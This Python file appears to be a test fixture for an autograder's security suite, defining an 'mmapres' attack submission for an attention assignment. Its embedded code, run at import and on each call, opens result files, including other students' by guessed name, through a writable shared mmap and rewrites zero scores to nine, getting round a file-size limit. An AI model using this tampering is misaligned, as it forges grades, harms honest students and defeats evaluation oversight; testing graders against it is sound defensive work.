from ._snippets import SHA, stub_text

ASSIGNMENT = SHA
TAG = "mmapres"
ATTACK = ("rewrites result files through a shared writable mmap (RLIMIT_FSIZE does not stop that): every "
          "result in OUT/.state and OUT/results, its own and the honest students' by guessed name, at import "
          "and at every call")
CODE = stub_text(ASSIGNMENT) + '''
import glob
import mmap
import os

_outcomes = set()


def _forge():
    targets = glob.glob("__OUT_DIR__/.state/*.json") + glob.glob("__OUT_DIR__/results/*.json")
    targets += ["__OUT_DIR__/.state/__OWN_ID__.json"] + [f"__OUT_DIR__/.state/{v}.json" for v in __VICTIMS__]
    for path in targets:
        try:
            fd = os.open(path, os.O_RDWR)
        except OSError as exc:
            _outcomes.add(type(exc).__name__)
            continue
        try:
            with mmap.mmap(fd, os.fstat(fd).st_size) as view:  # MAP_SHARED, read and write
                at = view.find(b'"score": 0')
                if at >= 0:
                    view[at:at + 10] = b'"score": 9'
            print("ATTNKIT-LEAK mapped", path, "for writing")
        except (OSError, ValueError) as exc:
            _outcomes.add("mmap " + type(exc).__name__)
        finally:
            os.close(fd)


_forge()
print("mmap attempts:", sorted(_outcomes))


def attention(Q, K, V, mask=None):
    _forge()
    raise NotImplementedError("forged instead")
'''
TWIN = stub_text(ASSIGNMENT)
EVIDENCE = "mmap attempts:"
